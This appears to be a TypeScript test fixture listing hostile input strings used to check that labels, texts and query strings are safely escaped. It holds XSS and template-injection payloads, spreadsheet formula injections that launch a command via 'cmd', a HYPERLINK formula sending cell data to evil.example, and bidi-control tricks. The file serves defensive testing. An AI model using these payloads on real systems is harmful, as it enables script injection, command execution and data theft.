/**
 * Hostile strings: markup, `</script>`, `javascript:` URLs, event handlers, template
 * syntax, spreadsheet formulas and bidirectional-control characters. Shared by the
 * robustness tests (hostile.test.ts: labels and texts) and the embed page's tests
 * (test/browser/embed.test.ts: query strings).
 */
/** Each payload, if it ever ran, would push its name into `window.__pwned`. */
export const HOSTILE = [
  `<img src=x onerror="window.__pwned.push('img')">`,
  `</script><script>window.__pwned.push('script')</script>`,
  `javascript:window.__pwned.push('js')`,
  `"><svg onload="window.__pwned.push('svg')"><a href="javascript:window.__pwned.push('a')">x</a>`,
  `<iframe srcdoc="<script>parent.__pwned.push('iframe')</script>"></iframe>`,
  `<style>*{display:none!important}</style><b>gras</b>`,
  `\${window.__pwned.push('template')} {{constructor.constructor('window.__pwned.push(1)')()}}`,
  `]]><!-- --><![CDATA[ x ]]>&amp;&lt;b&gt;&#60;i&#62;`,
  `=HYPERLINK("https://evil.example/?"&A1;"clic")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `Machines, =cmd|' /C calc'!A0; "quoted"`,
  `Vins,=2+5+cmd|' /C calc'!A0`,
  `Fr\u202eecnarF\u202c \u2066isolé\u2069 \u200fRLM \u200eLRM \u202dLRO\u202c \u061cALM`,
  `abc\u202e<img src=x onerror="window.__pwned.push('rlo')">`,
];
